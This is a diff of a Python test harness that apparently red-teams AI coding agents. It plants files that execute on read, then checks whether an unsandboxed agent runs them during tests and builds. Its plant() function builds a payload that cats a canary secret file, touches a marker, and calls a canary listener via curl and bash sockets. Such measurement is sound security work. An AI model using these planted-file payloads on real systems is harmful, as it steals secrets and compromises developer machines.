@@ -115,18 +115,24 @@ BUILDING = "python3 -B setup.py --version; make test; npm test; true"
 
 def plant(name, canaries):
     """Return what a file does by itself as soon as some tool reads it."""
-    loot = f"cat {canaries.secret_file}; touch {canaries.folder}/mark; "
+    loot = f"cat {canaries.secret_file}; touch {canaries.folder}/mark-{name}; "
     way = loot + fill(WAYS["curl"] + "; " + WAYS["bash's own datagrams"], canaries)
     return PLUGINS[name].format(way=way.replace('"', "'"))
 
 
-async def runs_by_itself(name):
-    """Tell whether a bot without a sandbox runs what this file holds, when it tests and builds."""
+def marks(canaries):
+    """Return which planted files were run."""
+    return {path.name.removeprefix("mark-") for path in canaries.folder.glob("mark-*")}
+
+
+async def run_by_themselves():
+    """Return which files a bot without a sandbox runs by itself, when it tests and builds."""
     async with open_canaries() as canaries:
         canaries.folder.chmod(0o777)
-        async with open_bot(CALC | {name: plant(name, canaries)}) as bot:
-            await bot.run(f"{TESTING}; {BUILDING}", seconds=20)
-        return bool(canaries.heard) or (canaries.folder / "mark").exists()
+        planted = {name: plant(name, canaries) for name in PLUGINS}
+        async with open_bot(CALC | planted) as bot:
+            await bot.run(f"{TESTING}; {BUILDING}", seconds=60)
+        return marks(canaries)
 
 
 @pytest.mark.attack(10)
@@ -140,7 +146,8 @@ async def test_code_of_the_repository_reaches_nothing(hostile, canaries, attempt
         await place.wait_for_end()
         heard = await place.read_results("implement/1")
 
-    silent = not canaries.heard and not (canaries.folder / "mark").exists()
-    bites = await asyncio.gather(*map(runs_by_itself, PLUGINS))
-    for name, bit in zip(PLUGINS, bites, strict=True):
-        attempts.note(name, blocked=silent and canaries.host_file not in heard, bites=bit)
+    silent = not canaries.heard and not marks(canaries)
+    bites = await run_by_themselves()
+    for name in PLUGINS:
+        held = silent and canaries.host_file not in heard
+        attempts.note(name, blocked=held, bites=name in bites)
